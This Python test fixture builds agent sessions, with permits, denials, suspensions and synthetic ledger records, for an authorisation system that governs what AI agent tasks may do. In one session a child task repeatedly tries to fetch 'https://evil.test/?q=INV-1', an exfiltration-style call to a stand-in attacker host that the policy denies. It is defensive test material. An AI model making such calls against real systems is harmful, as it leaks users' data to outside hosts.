"""Sessions for what shows them: an eventful one on a real installation, and long ones written record by record."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any

from remit.ledger.record import encode_record, leaf_hash
from remit.storage.schema import prepare
from tests.decide.stage import (
    APP,
    CATALOGUE,
    FETCH,
    HOUR,
    INTENTS,
    LOOKUP,
    MINUTE,
    READ,
    SECOND,
    Grant,
    Stage,
    spiffe,
)

PROJECT: dict[str, Any] = {
    "intents": {
        "answer": INTENTS["answer"] + "children: [narrow]\nlimits:\n  - {name: reads, effects: [read], calls: 40}\n",
        "narrow": """
description: Read invoices.
actions: [billing/read_invoice, web/fetch]
starters: [workload/finance, starter/app]
workloads: [group:agents]
params:
  invoice: {type: string}
  contact: {type: string, personal: true}
time_to_live: 2h
""",
    },
    "policies": """
@id("no-unreviewed-hosts")
@reason("destination_not_reviewed")
@message("this host was never reviewed")
@next("ask for it to be added to the hosts")
@requestable("group:staff")
forbid (principal, action == Remit::Action::"web/fetch", resource)
when { context has destination && context.destination.host like "*.test" };
""",
    "catalogue": CATALOGUE,
}


async def eventful(stage: Stage) -> Grant:
    """A question with a child task, labels, destinations, denials, an unknown outcome and a suspension; its grant."""
    clock = stage.clock
    root = await stage.start("answer", prompt="Which invoices of Kim's are due, and did anyone write about them?")
    clock.pass_(400)
    found = await stage.permit(root, LOOKUP, {"email": "kim@example.org", "reason": "who is Kim"})
    clock.pass_(310)
    await stage.report(found, output={"name": "Kim Example", "team": "INV-1"})
    for number in range(1, 7):
        clock.pass_(450)
        read = await stage.permit(root, READ, {"invoice": f"INV-{number}"})
        clock.pass_(120)
        await stage.report(read, output={"account": "DE89", "amount": 120.5, "status": "open"})
    clock.pass_(900)
    await stage.authorize(root, "payments/pay_invoice", {"invoice": "INV-1", "account": "DE89", "amount": 120.5})
    clock.pass_(1500)
    page = await stage.permit(root, FETCH, {"url": "https://news.example.org/invoices"})
    clock.pass_(2300)
    await stage.report(page, output={})
    clock.pass_(4 * MINUTE)
    child = await stage.start(
        "narrow", "workload/helper", parent=root.task, params={"invoice": "INV-1", "contact": "kim@example.org"}
    )
    clock.pass_(600)
    fetch = await stage.permit(child, FETCH, {"url": "https://mail.example.org/inbox"})
    clock.pass_(800)
    await stage.report(fetch, "error")
    clock.pass_(700)
    for _ in range(4):
        await stage.authorize(child, FETCH, {"url": "https://evil.test/?q=INV-1"})
        clock.pass_(900)
    lost = await stage.permit(child, READ, {"invoice": "INV-1"})
    del lost
    await stage.pass_(3 * MINUTE)
    await stage.governor.end_task(APP, root.task, "suspended", "somebody is looking at it")
    clock.pass_(40 * MINUTE)
    await stage.authorize(root, READ, {"invoice": "INV-9"})
    await stage.governor.end_task(APP, root.task, "open", "it was nothing")
    clock.pass_(2 * SECOND)
    read = await stage.permit(root, READ, {"invoice": "INV-1"})
    clock.pass_(95)
    await stage.report(read, output={"account": "DE89", "amount": 120.5, "status": "open"})
    clock.pass_(3 * SECOND)
    await stage.end(child)
    clock.pass_(800)
    await stage.end(root)
    clock.pass_(HOUR)
    return root


def opening(task: str, **more: Any) -> dict[str, Any]:
    """The body of a record that opens a task."""
    body = {"by": spiffe("starter/app"), "caseType": "", "config": "0" * 64, "emergency": False, "expires": 9 * 10**12,
            "intent": "answer", "key": "k", "limits": [], "onBehalfOf": "", "params": {},
            "parent": task.rpartition(".")[0], "prompt": "", "reason": "", "root": task.partition(".")[0],
            "starter": spiffe("starter/app"), "state": "open", "task": task,
            "workload": spiffe("workload/finance")}  # fmt: skip
    return body | more


def decision(number: int, task: str, **more: Any) -> dict[str, Any]:
    """The body of a decision: a permitted read."""
    body = {"action": READ, "adds": {"destination": "", "labels": [], "untrusted": False}, "config": "0" * 64,
            "context": {"input": {"invoice": f"INV-{number}"}}, "deadline": 1, "digest": "0" * 64, "effect": "permit",
            "enforcement": "pep", "expires": 1, "id": f"d_{number:028x}", "mode": "enforce", "obligations": [],
            "pep": spiffe("pep/gateway"), "principal": {}, "serverEffect": "read",
            "subject": spiffe("workload/finance"),
            "reason": {"code": "permitted", "message": "", "nextStep": "", "policies": []}, "task": task,
            "usage": {}, "would": "permit"}  # fmt: skip
    return body | more


def outcome(number: int, **more: Any) -> dict[str, Any]:
    """The body of what its enforcement point reported."""
    body = {"by": spiffe("pep/gateway"), "bytes": 9, "decision": f"d_{number:028x}", "digest": "0" * 64, "late": False,
            "result": "response", "selected": {}, "standing": "believed", "started": 0}  # fmt: skip
    return body | more


class Written:
    """One session, written record by record into a database of its own; time goes on by hand."""

    def __init__(self, path: Path, root: str = "t_1", now: int = 1_795_000_000_000) -> None:
        self.path, self.root, self.now = path, root, now
        self._db = sqlite3.connect(path, isolation_level=None)
        prepare(self._db)
        self._heads: dict[str, tuple[int, str]] = {}

    def add(self, kind: str, body: dict[str, Any], stream: str = "") -> int:
        """Appends one record; its number in the stream."""
        stream = stream or f"session/{self.root}"
        n, link = self._heads.get(stream, (0, ""))
        data = encode_record("example.org", stream, n + 1, link, self.now, kind, body)
        self._heads[stream] = (n + 1, leaf_hash(data))
        key = body.get("id") if kind == "decision" else body.get("task") if "intent" in body else None
        sql = "INSERT INTO records(stream, n, t, kind, key, bytes) VALUES (?, ?, ?, ?, ?, ?)"
        self._db.execute(sql, (stream, n + 1, self.now, kind, key, data))
        return n + 1

    def begin(self) -> None:
        """From here on nothing is on the disk until `close`, which makes long sessions fast."""
        self._db.execute("BEGIN")

    def close(self) -> None:
        if self._db.in_transaction:
            self._db.execute("COMMIT")
        self._db.close()


def long_session(path: Path, records: int) -> None:
    """A session of so many records: reads with their outcomes, denials in between, 40 children."""
    written = Written(path)
    written.begin()
    written.add("task", opening("t_1"))
    for child in range(1, 41):
        written.add("task", opening(f"t_1.{child}", intent="narrow"))
    number = 0
    while (number + 1) * 2 + 40 < records:
        number += 1
        task = f"t_1.{number % 40 + 1}" if number % 3 else "t_1"
        written.now += 90 if number % 1000 else 5_400_000
        if number % 50 == 7:
            reason = {"code": "policy_forbids", "message": "no", "nextStep": "", "policies": ["p"]}
            written.add("decision", decision(number, task, effect="deny", reason=reason, action="web/fetch", expires=0))
            written.add("denials", {"decision": f"d_{number:028x}", "count": 2})
            continue
        hosts = {"destination": f"h{number // 500}.example.org", "labels": [], "untrusted": False}
        written.add("decision", decision(number, task, adds=hosts))
        written.now += 35
        written.add("outcome", outcome(number))
    written.close()
